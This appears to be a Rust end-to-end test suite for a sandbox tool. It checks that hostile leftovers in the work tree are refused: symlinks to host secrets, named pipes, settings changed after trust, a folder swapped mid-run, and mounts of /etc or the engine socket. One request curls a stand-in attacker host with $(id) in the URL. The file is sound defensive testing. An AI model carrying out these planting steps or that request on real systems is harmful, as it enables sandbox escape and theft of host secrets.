//! Files that a run leaves in the work tree and that are hostile to the next one: links, pipes,
//! rewritten settings, archives. Each test has a control, in which the same attempt succeeds
//! because no task could have made it, or because the user agreed to it.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use e2e_tests::assert_held;
use e2e_tests::engine;
use tempfile::TempDir;

use super::project::{Ended, Project};

/// Seconds; far longer than a command takes to refuse to start.
const REFUSAL_TIMEOUT: &str = "60";

/// A folder of the host with a file that no task may read or change.
fn secrets() -> TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    fs::write(folder.path().join("key"), "host-only\n").expect("a file");
    folder
}

fn untouched(folder: &TempDir) -> bool {
    let names = fs::read_dir(folder.path()).expect("a folder").count();
    names == 1 && fs::read_to_string(folder.path().join("key")).is_ok_and(|text| text == "host-only\n")
}

/// Runs the command, which is killed if it hangs.
fn run_bounded(project: &Project, arguments: &[&str]) -> Ended {
    let command = project.sandbox(arguments);
    let mut timed = std::process::Command::new("timeout");
    timed.args(["--signal=KILL", REFUSAL_TIMEOUT]).arg(command.get_program()).args(command.get_args());
    if let Some(folder) = command.get_current_dir() {
        timed.current_dir(folder);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => timed.env(name, value),
            None => timed.env_remove(name),
        };
    }
    timed.stdin(std::process::Stdio::null()).output().expect("the sandbox command").into()
}

/// Whether the command was refused for this reason. If it ran, that is a breach.
#[track_caller]
fn is_refused(ended: &Ended, why: &str) -> bool {
    assert_held!(ended.code != Some(0), "the command was not refused: {ended:?}");
    ended.code == Some(125) && ended.stderr.contains(why)
}

#[tokio::test(flavor = "multi_thread")]
async fn mounted_folder_replaced_by_a_link_is_refused() {
    let (project, secrets) = (Project::new(), secrets());
    project.write("cache/x", "");
    project.append(".sandbox/sandbox.yaml", "mounts: [\"../cache:/cache\"]\n");
    let planted = project.run(&format!("mv cache old; ln -s {} cache", secrets.path().display()));
    assert_eq!(planted.code, Some(0), "{planted:?}");
    let next = project.run("cat /cache/key; echo x > /cache/by-task");
    assert_held!(!next.stdout.contains("host-only") && untouched(&secrets), "{next:?}");
    assert!(is_refused(&next, "symbolic link in a folder that tasks can write"), "{next:?}");
    // The control: where no task can write, the same link is the user's own.
    let own = tempfile::tempdir().expect("a folder");
    symlink(secrets.path(), own.path().join("cache")).expect("a link");
    let mount = format!("{}/cache:/own:ro", own.path().display());
    fs::remove_file(project.path().join("cache")).expect("a link");
    project.write("cache/x", "");
    let control = project.output(&["run", "--mount", &mount, "--", "cat", "/own/key"]);
    assert_eq!(control.stdout, "host-only\n", "{control:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn logs_at_symbolic_and_hard_links_are_refused() {
    let (project, secrets) = (Project::new(), secrets());
    let victim = secrets.path().join("key");
    let planted = project.run(&format!(
        "ln -s {0} net.log; ln -s {0} net2.log.jsonl; ln -s {0} own.log; echo x > plain; ln plain second.log",
        victim.display()
    ));
    assert_eq!(planted.code, Some(0), "{planted:?}");
    let request = ["--", "curl", "-s", "http://evil.example/$(id)"];
    for flags in [
        ["--network-log", "net.log"],
        ["--network-log", "net2.log"],
        ["--network-log", "second.log"],
        ["--log", "own.log"],
    ] {
        let next = project.output(&[&["run"], &flags[..], &request[..]].concat());
        assert!(is_refused(&next, "in a folder that tasks can write"), "{flags:?}: {next:?}");
    }
    assert_held!(untouched(&secrets), "a log was written through a link");
    // The control: a link that the user made is followed.
    let own = tempfile::tempdir().expect("a folder");
    symlink(&victim, own.path().join("net.log")).expect("a link");
    let log = own.path().join("net.log").display().to_string();
    let control = project.output(&[&["run", "--network-log", &log], &request[..]].concat());
    assert_eq!(control.code, Some(0), "{control:?}");
    assert!(fs::read_to_string(&victim).expect("a file").contains("BLOCKED GET"));
}

#[tokio::test(flavor = "multi_thread")]
async fn pipe_instead_of_a_file_is_refused_without_hanging() {
    let project = Project::new();
    let planted = project.run("mkfifo pipe pipe.jsonl; mkdir dir; mkfifo dir/Dockerfile dir/images.tar");
    assert_eq!(planted.code, Some(0), "{planted:?}");
    for arguments in [
        &["run", "--network-log", "pipe", "--", "true"][..],
        &["run", "--log", "pipe", "--", "true"],
        &["run", "--allowlist", "pipe", "--", "true"],
        &["run", "--config", "pipe", "--", "true"],
        &["run", "--dockerfile", "pipe", "--", "true"],
        &["image", "hash", "--dockerfile", "dir/Dockerfile"],
        &["image", "load", "dir"],
        &["allowlist", "lint", "--allowlist", "pipe"],
        &["config", "check", "--config", "pipe"],
    ] {
        let next = run_bounded(&project, arguments);
        assert!(
            matches!(next.code, Some(1 | 125)) && next.stderr.contains("not a regular file")
                || next.stdout.contains("not a regular file"),
            "{arguments:?}: {next:?}"
        );
    }
    // The control: a regular file is read.
    project.write("policy.yaml", "domains: []\n");
    let control = run_bounded(&project, &["run", "--allowlist", "policy.yaml", "--", "true"]);
    assert_eq!(control.code, Some(0), "{control:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_behind_a_link_in_the_tree_are_refused() {
    let project = Project::new();
    let folder = project.path().join(".sandbox");
    fs::rename(&folder, project.path().join("conf")).expect("a folder");
    symlink("conf", &folder).expect("a link");
    let refused = project.run("true");
    assert!(is_refused(&refused, "symbolic link in a folder that tasks can write"), "{refused:?}");
    // The control: the same settings in the expected place.
    fs::remove_file(&folder).expect("a link");
    fs::rename(project.path().join("conf"), &folder).expect("a folder");
    assert_eq!(project.run("true").code, Some(0));
    fs::rename(folder.join("network-allowlist.yaml"), project.path().join("policy.yaml")).expect("a file");
    symlink("../policy.yaml", folder.join("network-allowlist.yaml")).expect("a link");
    let refused = project.run("true");
    assert!(is_refused(&refused, "symbolic link in a folder that tasks can write"), "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn policy_changed_after_trust_is_refused() {
    let project = Project::new();
    project.write("policy.yaml", "domains: [open.test]\n");
    let trusted = project.wary(&["trust", "--allowlist", "policy.yaml"]).output().expect("the command");
    assert!(trusted.status.success(), "{trusted:?}");
    let run = ["run", "--allowlist", "policy.yaml", "--", "true"];
    let first: Ended = project.wary(&run).output().expect("the command").into();
    assert_eq!(first.code, Some(0), "{first:?}");
    // A task could do this where the file is not protected.
    project.write("policy.yaml", "domains: ['*']\n");
    let next: Ended = project.wary(&run).output().expect("the command").into();
    assert!(
        is_refused(&next, "changed since you trusted them") && next.stderr.contains("reach *"),
        "{next:?}"
    );
    // The control: the user trusts the file.
    assert_eq!(project.output(&run).code, Some(0));
    // A file where no task can write needs no trust.
    let own = tempfile::tempdir().expect("a folder");
    fs::write(own.path().join("policy.yaml"), "domains: ['*']\n").expect("a file");
    let path = own.path().join("policy.yaml").display().to_string();
    let elsewhere = project.wary(&["run", "--allowlist", &path, "--", "true"]);
    let elsewhere: Ended = { elsewhere }.output().expect("the command").into();
    assert_eq!(elsewhere.code, Some(0), "{elsewhere:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn cloned_repository_gets_no_rights_until_trusted() {
    let (project, secrets) = (Project::new(), secrets());
    let asks = format!(
        "network_sandbox: false\nprotect_workspace: false\nmounts: [\"{}:/secrets\"]\nenv: {{K: !env HOST_KEY}}\npass_env: [HOST_TOKEN]\n",
        secrets.path().display()
    );
    project.append(".sandbox/sandbox.yaml", &asks);
    let script = "cat /secrets/key; echo $K $HOST_TOKEN";
    let with_keys = |mut command: std::process::Command| -> Ended {
        command.env("HOST_KEY", "host-key").env("HOST_TOKEN", "host-token");
        command.output().expect("the command").into()
    };
    let run = ["run", "--", "bash", "-c", script];
    let refused = with_keys(project.wary(&run));
    assert_held!(!refused.stdout.contains("host-"), "{refused:?}");
    assert_eq!(refused.code, Some(125), "{refused:?}");
    for request in [
        "turn the network sandbox off",
        "write files that host tools execute implicitly",
        "use the engine `unix://",
        "read and write",
        "+ read your variable `HOST_KEY`, as `K`",
        "+ read your variable `HOST_TOKEN`",
        "reach the private network 203.0.113.0/24",
        "hint: review them, then run `sandbox trust`",
    ] {
        assert!(refused.stderr.contains(request), "{request}: {refused:?}");
    }
    for command in [
        &["exec", "--", "true"][..],
        &["status"],
        &["clean"],
        &["diff"],
        &["apply"],
        &["discard"],
        &["verify"],
        &["image", "list"],
    ] {
        let refused = with_keys(project.wary(command));
        assert_eq!(refused.code, Some(125), "{command:?}: {refused:?}");
    }
    // Commands that only show the files work without trust.
    assert_eq!(with_keys(project.wary(&["allowlist", "lint"])).code, Some(0));
    let shown = with_keys(project.wary(&["trust", "--show", "--output", "json"])).json();
    assert_eq!(shown["trusted"], false);
    let digest = shown["digest"].as_str().expect("a digest").to_owned();
    // The controls: trusted by digest, for one run, and permanently.
    let by_digest = format!("--trust={digest}");
    let agreed = with_keys(project.wary(&[&[by_digest.as_str()], &run[..]].concat()));
    assert_eq!(agreed.stdout, "host-only\nhost-key host-token\n", "{agreed:?}");
    let wrong = format!("--trust=sha256:{}", "0".repeat(64));
    for flags in [&[wrong.as_str()][..], &[]] {
        let again = with_keys(project.wary(&[flags, &run[..]].concat()));
        assert_held!(!again.stdout.contains("host-"), "the trust ended with the run: {again:?}");
        assert_eq!(again.code, Some(125), "{again:?}");
    }
    assert_eq!(with_keys(project.wary(&["trust"])).code, Some(0));
    assert_eq!(with_keys(project.wary(&run)).stdout, "host-only\nhost-key host-token\n");
    assert_eq!(with_keys(project.wary(&["trust", "--revoke"])).code, Some(0));
    assert_eq!(with_keys(project.wary(&run)).code, Some(125));
}

#[tokio::test(flavor = "multi_thread")]
async fn build_context_changed_after_trust_is_refused() {
    let project = Project::new();
    let base = e2e_tests::setting::Setting::of_this_run().image.clone();
    project.write("app/setup.sh", "echo fine\n");
    project.write("app/Dockerfile", &format!("FROM {base}\nCOPY setup.sh /setup.sh\n"));
    let flags = ["--dockerfile", "app/Dockerfile", "--context", "app"];
    let output =
        |command: std::process::Command| -> Ended { { command }.output().expect("the command").into() };
    let show = [&["image", "hash"], &flags[..]].concat();
    assert_eq!(output(project.wary(&show)).code, Some(125));
    assert_eq!(output(project.wary(&[&["trust"], &flags[..]].concat())).code, Some(0));
    assert_eq!(output(project.wary(&show)).code, Some(0));
    project.write("app/setup.sh", "echo evil\n");
    let changed = output(project.wary(&show));
    assert!(is_refused(&changed, "changed since you trusted them"), "{changed:?}");
    assert_eq!(output(project.sandbox(&show)).code, Some(0), "the control");
    // The context becomes a link to the host's files.
    fs::rename(project.path().join("app"), project.path().join("old")).expect("a folder");
    symlink("/etc", project.path().join("app")).expect("a link");
    let linked =
        output(project.sandbox(&["image", "hash", "--dockerfile", "old/Dockerfile", "--context", "app"]));
    assert!(is_refused(&linked, "symbolic link in a folder that tasks can write"), "{linked:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn archive_that_tasks_can_write_is_not_loaded_or_written_through_links() {
    let project = Project::new();
    let link = project.path().join("archive");
    let saved = project.output(&["image", "save", "archive"]);
    assert_eq!(saved.code, Some(0), "{saved:?}");
    let load: Ended = project.wary(&["--trust", "image", "list"]).output().expect("the command").into();
    assert_eq!(load.code, Some(0), "{load:?}");
    assert_eq!(project.wary(&["trust"]).status().expect("the command").code(), Some(0));
    let refused: Ended = project.wary(&["image", "load", "archive"]).output().expect("the command").into();
    assert!(is_refused(&refused, "can replace any image of the engine"), "{refused:?}");
    assert_eq!(project.output(&["image", "load", "archive"]).code, Some(0), "the control");

    let secrets = secrets();
    fs::remove_dir_all(&link).expect("a folder");
    fs::create_dir(&link).expect("a folder");
    symlink(secrets.path().join("key"), link.join("images.tar")).expect("a link");
    symlink(secrets.path().join("key"), link.join("images.tar.unfinished")).expect("a link");
    let saved = project.output(&["image", "save", "archive"]);
    assert_eq!(saved.code, Some(0), "{saved:?}");
    assert_held!(untouched(&secrets), "an archive was written through a link: {saved:?}");
    assert!(link.join("images.tar").symlink_metadata().is_ok_and(|facts| facts.is_file()));
}

#[tokio::test(flavor = "multi_thread")]
async fn session_that_tasks_of_another_project_can_write_is_refused() {
    let (project, other) = (Project::new(), Project::new());
    assert_eq!(other.run("mkdir session").code, Some(0));
    let session = other.path().join("session").display().to_string();
    let refused = project.output(&["agent", "--session-dir", &session, "hello"]);
    assert!(is_refused(&refused, "in a folder that tasks can write"), "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn mount_of_host_root_or_sockets_is_refused() {
    let project = Project::new();
    let socket =
        PathBuf::from(e2e_tests::setting::Setting::of_this_run().engine.trim_start_matches("unix://"));
    let alias = tempfile::tempdir().expect("a folder");
    symlink(socket.parent().expect("a folder"), alias.path().join("run")).expect("a link");
    let state = project.state().join("sandbox");
    let mount = |path: &Path, flags: &[&str]| {
        let mount = format!("{}:/x:ro", path.display());
        project.output(&[&["run", "--mount", &mount], flags, &["--", "ls", "/x"]].concat())
    };
    for path in [socket.clone(), socket.parent().expect("a folder").into(), alias.path().join("run")] {
        let refused = mount(&path, &["--allow-system-mounts"]);
        assert!(is_refused(&refused, "would give the task the engine's socket"), "{refused:?}");
    }
    let refused = mount(&state, &["--allow-system-mounts"]);
    assert!(is_refused(&refused, "the sandbox's own keys"), "{refused:?}");
    for path in ["/etc", "/usr", "/root"] {
        let refused = mount(Path::new(path), &[]);
        assert!(is_refused(&refused, "is a system folder or a home folder"), "{path}: {refused:?}");
    }
    // The control: the user allows system mounts. The tests' engine has its own root file system,
    // and shares only the folders in /tmp.
    let home = tempfile::tempdir().expect("a folder");
    let at_home = format!("{}:/x:ro", home.path().display());
    for (flags, code) in [(&[][..], 125), (&["--allow-system-mounts"], 0)] {
        let arguments = [&["run", "--mount", &at_home], flags, &["--", "ls", "/x"]].concat();
        let mut command = project.sandbox(&arguments);
        let ended: Ended = command.env("HOME", home.path()).output().expect("the command").into();
        assert_eq!(ended.code, Some(code), "{ended:?}");
    }
    let containers = engine::containers("no-such-prefix").await;
    assert_eq!(containers, Vec::<String>::new());
}

/// Runs the command on a terminal, where a user types `answer`.
fn on_a_terminal(project: &Project, arguments: &[&str], answer: &str) -> Ended {
    use std::io::Write as _;
    let command = project.wary(arguments);
    let arguments = std::iter::once(command.get_program()).chain(command.get_args());
    let line: Vec<String> = arguments.map(|argument| format!("'{}'", argument.display())).collect();
    let mut terminal = std::process::Command::new("timeout");
    terminal
        .args([
            "--signal=KILL",
            REFUSAL_TIMEOUT,
            "script",
            "--quiet",
            "--return",
            "--command",
            &line.join(" "),
            "/dev/null",
        ])
        .current_dir(project.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped());
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => terminal.env(name, value),
            None => terminal.env_remove(name),
        };
    }
    let mut child = terminal.spawn().expect("script");
    let mut stdin = child.stdin.take().expect("a pipe");
    stdin.write_all(answer.as_bytes()).expect("an answer");
    // Closing stdin would end the terminal before the command has read the answer.
    let ended = child.wait_with_output().expect("an end");
    drop(stdin);
    ended.into()
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_prompt_on_a_terminal_appears_once() {
    let project = Project::new();
    let run = ["run", "--", "true"];
    let refused = on_a_terminal(&project, &run, "n\n");
    assert_eq!(refused.code, Some(125), "{refused:?}");
    assert!(refused.stdout.contains("Trust these files? [y/N]"), "{refused:?}");
    let agreed = on_a_terminal(&project, &run, "y\n");
    assert_eq!(agreed.code, Some(0), "{agreed:?}");
    let again: Ended = project.wary(&run).output().expect("the command").into();
    assert_eq!(again.code, Some(0), "{again:?}");
    // This trust does not cover the settings of a nested project.
    let inner = project.path().join("vendor/inner");
    fs::create_dir_all(&inner).expect("a folder");
    let copied =
        std::process::Command::new("cp").arg("-a").arg(project.path().join(".sandbox")).arg(&inner).status();
    assert!(copied.expect("cp").success());
    let within: Ended = project.wary(&run).current_dir(&inner).output().expect("the command").into();
    assert!(is_refused(&within, "are not trusted"), "{within:?}");
}

/// Kills the process at the end of the test, even if the test fails.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        drop(self.0.kill());
        drop(self.0.wait());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn folder_swapped_by_a_running_task_is_never_mounted_as_another() {
    let (project, secrets) = (Project::new(), secrets());
    project.write("sub/plain", "");
    let swap = format!(
        "echo ready; ln -s {} link; while [ ! -e stop ]; do mv sub keep; mv link sub; mv sub link; mv keep sub; done",
        secrets.path().display()
    );
    let (child, _stdout) = project.start(&swap);
    let mut child = KillOnDrop(child);
    for _ in 0..12 {
        let ended =
            project.output(&["run", "--mount", "sub:/x", "--", "sh", "-c", "cat /x/key; touch /x/by-task"]);
        assert_held!(!ended.stdout.contains("host-only") && untouched(&secrets), "{ended:?}");
    }
    project.write("stop", "");
    assert!(child.0.wait().expect("an end").success());
    // The control: a folder that stays in its place is mounted.
    project.write("still/plain", "");
    let control = project.output(&["run", "--mount", "still:/x", "--", "ls", "/x"]);
    assert_eq!(control.stdout, "plain\n", "{control:?}");
}
